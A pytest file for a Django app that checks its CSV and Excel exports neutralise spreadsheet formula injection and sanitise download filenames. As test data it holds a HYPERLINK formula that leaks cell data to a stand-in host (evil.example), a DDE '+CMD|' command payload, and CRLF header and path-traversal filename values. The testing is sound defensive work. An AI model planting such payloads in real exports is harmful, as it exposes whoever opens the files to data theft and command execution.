"""Every CSV download goes through one writer whose cells are inert in a spreadsheet (OWASP CSV injection):
text starting with = + - @, a tab or a carriage return gets a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from alignment import services
from core.tabular import csv_response, inert, safe_filename, xlsx_cell, xlsx_write
from tests.factories import (
    ContributionFactory,
    InitiativeFactory,
    KPIFactory,
    ObjectiveFactory,
    ReadingFactory,
)

NOW = datetime.datetime(2026, 11, 21, 12, tzinfo=datetime.UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+41 22 555", "'+41 22 555"),
        ("-1+2", "'-1+2"),
        ("-5", "'-5"),  # typed text that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("plain text", "plain text"),
        ("a=1+1", "a=1+1"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (-2.5, -2.5),
        (Decimal("-12.30"), Decimal("-12.30")),
        (0, 0),
        (True, "True"),
        (datetime.date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_inert_quotes_text_that_a_spreadsheet_would_run_and_keeps_numbers(value, expected):
    # when
    cell = inert(value)

    # then
    assert cell == expected
    assert type(cell) is type(expected)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("bearing-kpis", "bearing-kpis"),
        ('bearing-O1"; x=1\r\nSet-Cookie: a', "bearing-O1-x-1-Set-Cookie-a"),
        ("bearing-=1+1/../x", "bearing-1-1-..-x"),
        ("..", "download"),
        ("", "download"),
    ],
)
def test_safe_filename_keeps_only_harmless_characters(name, expected):
    assert safe_filename(name) == expected


def read_csv(response: Any) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_csv_response_writes_every_cell_inert_header_included():
    # when
    response = csv_response(
        "bearing-test", ["=Name", "Value"], [["-1+2", -3], [HYPERLINK, Decimal("2.50")], ["ok", None]]
    )

    # then
    assert response["Content-Disposition"] == 'attachment; filename="bearing-test.csv"'
    assert read_csv(response) == [
        ["'=Name", "Value"],
        ["'-1+2", "-3"],
        ["'" + HYPERLINK, "2.50"],
        ["ok", ""],
    ]


# ------------------------------------------------------------------------------------------ the downloads


@pytest.fixture
def hostile_kpi(db, time_machine) -> dict[str, Any]:
    """An objective whose code was stored before codes were validated, and a KPI named and measured in
    formulas, with a reading; scored and drawn."""
    time_machine.move_to(NOW)
    objective = ObjectiveFactory(code="=1+1", title="@SUM(1+1)")
    kpi = KPIFactory(
        objective=objective,
        name=HYPERLINK,
        unit="-1+2",
        baseline_date=datetime.date(2026, 1, 1),
        baseline_value=Decimal("10"),
        target_date=datetime.date(2027, 1, 1),
        target_value=Decimal("20"),
    )
    ReadingFactory(kpi=kpi, date=datetime.date(2026, 6, 1), value=Decimal("-4"))
    initiative = InitiativeFactory(code="EVIL-1", title="+CMD|' /C calc'!A0")
    ContributionFactory(initiative=initiative, objective=objective, kpi=kpi, strength="strong")
    services.recompute_and_render()
    return {"objective": objective, "kpi": kpi, "initiative": initiative}


KPI_ROWS = [
    ["KPI", "Objective", "Unit", "Status", "Confidence", "Series", "Date", "Value"],
    ["'" + HYPERLINK, "'=1+1", "'-1+2", "Off track", "low", "Expected progress", "2026-01-01", "10.0"],
    ["'" + HYPERLINK, "'=1+1", "'-1+2", "Off track", "low", "Expected progress", "2027-01-01", "20.0"],
    ["'" + HYPERLINK, "'=1+1", "'-1+2", "Off track", "low", "Reading", "2026-06-01", "-4.0"],
    ["'" + HYPERLINK, "'=1+1", "'-1+2", "Off track", "low", "Target", "2027-01-01", "20.0"],
]


def test_kpi_chart_csv_cells_are_inert(hostile_kpi, client, executive):
    # given
    client.force_login(executive)

    # when
    response = client.get(reverse("alignment:kpi-chart-csv", args=[hostile_kpi["kpi"].pk]))

    # then
    assert response.status_code == 200
    assert read_csv(response) == KPI_ROWS


def test_objective_kpis_csv_cells_are_inert_and_its_file_name_is_safe(hostile_kpi, client, executive):
    # given
    client.force_login(executive)

    # when
    response = client.get(reverse("alignment:objective-kpis-csv", args=[hostile_kpi["objective"].pk]))

    # then
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="bearing-1-1-kpis.csv"'
    assert read_csv(response) == KPI_ROWS


@pytest.mark.parametrize("query", [{}, {"category": "grow"}], ids=["stored", "computed"])
def test_dashboard_csv_cells_are_inert(hostile_kpi, client, executive, query):
    # given
    client.force_login(executive)

    # when
    bubble = read_csv(client.get(reverse("alignment:dashboard-csv", args=["bubble"]), query))
    investment = read_csv(client.get(reverse("alignment:dashboard-csv", args=["investment"]), query))
    kpis = read_csv(client.get(reverse("alignment:dashboard-csv", args=["kpis"]), query))

    # then
    assert [row[:2] for row in bubble] == [["Initiative", "Title"], ["EVIL-1", "'+CMD|' /C calc'!A0"]]
    assert [row[:2] for row in investment] == [
        ["Objective", "Title"],
        ["'=1+1", "'@SUM(1+1)"],
        ["—", "No objective"],
    ]
    assert kpis == KPI_ROWS


def test_no_module_writes_csv_but_the_shared_writer():
    # given every module of the product
    root = Path(settings.BASE_DIR)
    modules = [
        path
        for path in root.rglob("*.py")
        if not path.relative_to(root).parts[0].startswith((".", "tests", "static"))
        and "migrations" not in path.parts
    ]

    # when
    writers = sorted(
        str(path.relative_to(root))
        for path in modules
        if re.search(r"csv\.(writer|DictWriter)\b|text/csv", path.read_text(encoding="utf-8"))
    )

    # then
    assert len(modules) > 50
    assert writers == ["core/tabular.py"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("-5", "'-5"),
        ("nul\x00 and bell\x07 dropped, tab\tkept", "nul and bell dropped, tab\tkept"),
        ("x" * 40_000, "x" * 32_767),
        (None, None),
        (True, "True"),
        (-5, -5),
        (Decimal("-12.30"), Decimal("-12.30")),
        (float("nan"), "nan"),
        (Decimal("Infinity"), "Infinity"),
        (datetime.date(2026, 3, 1), datetime.date(2026, 3, 1)),
        (datetime.datetime(2026, 3, 1, 12, 30, tzinfo=datetime.UTC), datetime.datetime(2026, 3, 1, 12, 30)),
    ],
)
def test_xlsx_cell_types_numbers_and_dates_and_keeps_text_inert(value, expected, settings):
    # given
    settings.TIME_ZONE = "UTC"

    # when
    cell = xlsx_cell(value)

    # then
    assert cell == expected
    assert type(cell) is type(expected)


def test_a_workbook_holds_no_formula_and_types_its_cells(tmp_path):
    # given
    target = tmp_path / "book.xlsx"

    # when
    xlsx_write(
        target,
        ["=Name", "Value", "When"],
        [["=1+1", Decimal("-2.5"), datetime.date(2026, 3, 1)], ["+cmd|' /C calc'!A0", 7, None]],
        sheet="Risks: [all]/*?",
    )

    # then
    sheet = load_workbook(target).worksheets[0]
    assert sheet.title == "Risks- -all----"
    cells = [list(row) for row in sheet.iter_rows()]
    assert [[cell.value for cell in row] for row in cells] == [
        ["'=Name", "Value", "When"],
        ["'=1+1", -2.5, datetime.datetime(2026, 3, 1)],
        ["'+cmd|' /C calc'!A0", 7, None],
    ]
    assert [[cell.data_type for cell in row] for row in cells[1:]] == [["s", "n", "d"], ["s", "n", "n"]]
    assert cells[1][2].is_date


def test_no_module_writes_a_workbook_but_the_shared_writer():
    # given every module of the product
    root = Path(settings.BASE_DIR)
    modules = [
        path
        for path in root.rglob("*.py")
        if not path.relative_to(root).parts[0].startswith((".", "tests", "static"))
        and "migrations" not in path.parts
    ]

    # when
    writers = sorted(
        str(path.relative_to(root))
        for path in modules
        if re.search(r"Workbook\(|xlsxwriter|write_only", path.read_text(encoding="utf-8"))
    )

    # then
    assert writers == ["core/tabular.py"]
